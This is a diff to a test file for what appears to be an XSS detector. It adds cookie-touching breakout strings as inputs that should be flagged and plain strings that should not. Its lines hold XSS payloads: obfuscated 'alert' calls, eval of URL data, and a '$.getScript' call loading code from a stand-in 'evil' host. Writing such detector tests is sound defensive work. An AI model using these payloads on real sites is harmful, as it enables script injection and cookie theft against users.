@@ -35,6 +35,8 @@ describe('findJsScript', () => {
     ["';globalThis[String.fromCharCode(97,108,101,114,116)](1)//", XSS_RULES.jsObfuscatedAccess],
     ["window[atob('YWxlcnQ=')](1)", XSS_RULES.jsObfuscatedAccess],
     ["';$.getScript('//evil/x.js')//", XSS_RULES.jsBreakCall],
+    ["';document.cookie=true;//", XSS_RULES.jsBreakCall],
+    ['<br size="&{document.cookie=true}">', XSS_RULES.jsBreakCall],
     ['eval.call(this,unescape.call(this,location))', XSS_RULES.jsEvalDecoded],
     ['eval.apply(null,[location.hash.slice(1)])', XSS_RULES.jsEvalDecoded],
     [';//\ra=eval;b=alert;a(b(10));//', XSS_RULES.jsSinkAsValue],
@@ -75,6 +77,9 @@ describe('findJsScript', () => {
     'var re = new RegExp(/ab/.source + /cd/.source)',
     'with (obj) { eval(code) }',
     'window[callbackName](data)',
+    'if (document.cookie == x) {}',
+    "Set it with document.cookie='theme=dark' in the console",
+    'perl: &{$code}(@args)',
     '$.getScript("/js/app.js", init)',
     'const total = items.map(price, tax)',
   ])('raises no critical paranoia-1 rule on %j', (input) => {
